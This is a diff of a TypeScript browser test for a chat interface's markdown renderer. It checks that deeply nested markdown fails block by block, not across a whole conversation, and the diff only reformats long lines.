 test('deep nesting fails per block, never per conversation: the rest of the reply and the other replies render', { skip }, async () => {
   const page = await open(false);
@@ -448,15 +664,27 @@ test('deep nesting fails per block, never per conversation: the rest of the repl
   };
   const wrap = (d: string): string => `Before **b1**.\n\n${d}\n\nAfter **b2**.\n\n\`\`\`ts\nconst ok = 1;\n\`\`\``;
   const started = Date.now();
-  await send(page, init(conversation([
-    user, reply('r1', wrap(deep.quotes)),
-    { ...user, id: 'u2' }, reply('r2', wrap(deep.stars)),
-    { ...user, id: 'u3' }, reply('r3', wrap(deep.emphasis)),
-    { ...user, id: 'u4' }, reply('r4', 'A **normal** reply.'),
-    { ...user, id: 'u5' }, reply('r5', '', { status: 'streaming' }),
-  ]), 'r5'));
+  await send(
+    page,
+    init(
+      conversation([
+        user,
+        reply('r1', wrap(deep.quotes)),
+        { ...user, id: 'u2' },
+        reply('r2', wrap(deep.stars)),
+        { ...user, id: 'u3' },
+        reply('r3', wrap(deep.emphasis)),
+        { ...user, id: 'u4' },
+        reply('r4', 'A **normal** reply.'),
+        { ...user, id: 'u5' },
+        reply('r5', '', { status: 'streaming' }),
+      ]),
+      'r5',
+    ),
+  );
   for (const d of Object.values(deep)) {
-    for (const piece of wrap(d).match(/[\s\S]{1,500}/g)!) await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r5', text: piece });
+    for (const piece of wrap(d).match(/[\s\S]{1,500}/g)!)
+      await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r5', text: piece });
     await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r5', text: '\n\n' });
     await frames(page, 1);
   }
@@ -466,7 +694,13 @@ test('deep nesting fails per block, never per conversation: the rest of the repl
   const ms = Date.now() - started;
   const replies = page.locator('[data-testid="reply"]');
   assert.equal(await replies.count(), 5);
-  for (const [i, bold] of [[0, 2], [1, 2], [2, 2], [3, 1], [4, 6]] as const) {
+  for (const [i, bold] of [
+    [0, 2],
+    [1, 2],
+    [2, 2],
+    [3, 1],
+    [4, 6],
+  ] as const) {
     assert.equal(await replies.nth(i).locator('.reply-body strong').count(), bold, `reply ${i + 1}: the blocks around the deep one render`);
   }
   assert.equal(await page.locator('[data-testid="copy"]').count(), 6, 'and their code blocks have actions');
@@ -475,7 +709,11 @@ test('deep nesting fails per block, never per conversation: the rest of the repl
   const note = replies.nth(2).locator('.unrendered-note');
   assert.equal(await note.count(), 1);
   assert.match((await note.textContent()) ?? '', /shown as plain text/);
-  assert.equal(((await replies.nth(2).locator('pre.unrendered-text').textContent()) ?? '').trim(), deep.emphasis, 'the failing block is shown as its text');
+  assert.equal(
+    ((await replies.nth(2).locator('pre.unrendered-text').textContent()) ?? '').trim(),
+    deep.emphasis,
+    'the failing block is shown as its text',
+  );
   assert.equal(await replies.nth(4).locator('.unrendered-note').count(), 1, 'streamed: the same block fails alone');
   assert.ok(ms < 30_000, `${ms} ms for the conversation`);
   await page.context().close();
